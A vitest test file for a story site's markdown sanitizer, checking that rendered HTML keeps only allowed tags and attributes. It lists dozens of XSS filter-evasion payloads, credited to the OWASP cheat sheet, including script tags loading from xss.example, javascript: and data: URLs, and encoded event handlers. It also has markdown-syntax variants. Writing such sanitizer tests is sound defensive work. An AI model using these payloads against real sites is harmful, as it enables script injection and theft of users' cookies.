import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { describe, expect, it } from 'vitest';
import { renderMarkdown, STORY_HTML_POLICY } from './markdown';

type Node = DefaultTreeAdapterMap['childNode'];

/** Every element and attribute in the output, as a browser's parser (parse5, per WHATWG) sees it. */
function elements(html: string): { tag: string; attrs: { name: string; value: string }[] }[] {
	const found: { tag: string; attrs: { name: string; value: string }[] }[] = [];
	const walk = (nodes: Node[]) => {
		for (const node of nodes) {
			if ('tagName' in node) {
				found.push({ tag: node.tagName, attrs: node.attrs });
				walk(node.childNodes as Node[]);
			}
		}
	};
	walk(parseFragment(html).childNodes as Node[]);
	return found;
}

function expectSafe(html: string) {
	const allowedTags = STORY_HTML_POLICY.allowedTags as string[];
	const allowedAttrs = STORY_HTML_POLICY.allowedAttributes as Record<string, string[]>;
	for (const el of elements(html)) {
		expect(allowedTags, `tag <${el.tag}> in ${html}`).toContain(el.tag);
		for (const attr of el.attrs) {
			expect(allowedAttrs[el.tag] ?? [], `attribute ${attr.name} on <${el.tag}>`).toContain(
				attr.name
			);
			expect(attr.name).not.toMatch(/^on/i);
			if (attr.name === 'href' || attr.name === 'src') {
				const url = [...attr.value]
					.filter((c) => c.charCodeAt(0) > 0x20)
					.join('')
					.toLowerCase();
				expect(url).not.toMatch(/^(javascript|vbscript|data):/);
			}
		}
	}
	expect(html.toLowerCase()).not.toContain('<script');
}

// Payloads from the OWASP "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), typed
// into a story's markdown as an attacker (or a pasted snippet) would.
const OWASP_XSS_FILTER_EVASION = [
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	'<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
	`<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
	`<SCRIPT SRC=//xss.example/.j>`,
	`<IMG SRC="\`<javascript:alert>\`('XSS')"`,
	`<iframe src=http://xss.example/scriptlet.html <`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<a href="javascript:alert('XSS')">click</a>`,
	`<a href="  JaVaScRiPt:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<form action="https://xss.example"><button>Go</button></form>`
];

// The same attacks written in markdown syntax rather than raw HTML.
const MARKDOWN_PAYLOADS = [
	`[click me](javascript:alert('XSS'))`,
	`[click me](JAVASCRIPT:alert(1))`,
	`[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](javascript:alert(1))`,
	`![x](https://tracker.example/pixel.gif)`,
	`[a](<javascript:alert(1)>)`,
	`<javascript:alert(1)>`
];

describe('story markdown is saved clean', () => {
	it.each(OWASP_XSS_FILTER_EVASION)('OWASP filter-evasion payload: %s', (payload) => {
		expectSafe(renderMarkdown(`Before\n\n${payload}\n\nAfter`));
	});

	it.each(MARKDOWN_PAYLOADS)('markdown payload: %s', (payload) => {
		const html = renderMarkdown(payload);
		expectSafe(html);
		expect(html).not.toMatch(/tracker\.example/);
	});

	it('keeps the ordinary writing a story needs', () => {
		const html = renderMarkdown(
			[
				'# Home at last',
				'Our patient **swam** off *strongly*.',
				'',
				'- fed well',
				'- dove deep',
				'',
				'> A quote from the vet.',
				'',
				'[Read the release guide](/stranded) or [the agency](https://agency.example/guide).',
				'',
				'![Patient in the pool](/media/abc-123/960.webp)'
			].join('\n')
		);
		expect(html).toContain('<h2>Home at last</h2>');
		expect(html).toContain('<strong>swam</strong>');
		expect(html).toContain('<li>fed well</li>');
		expect(html).toContain('<blockquote>');
		expect(html).toContain('<a href="/stranded">');
		expect(html).toContain(
			'<a href="https://agency.example/guide" rel="noopener noreferrer nofollow" target="_blank">'
		);
		expect(html).toContain(
			'<img src="/media/abc-123/960.webp" alt="Patient in the pool" loading="lazy" />'
		);
		expectSafe(html);
	});
});
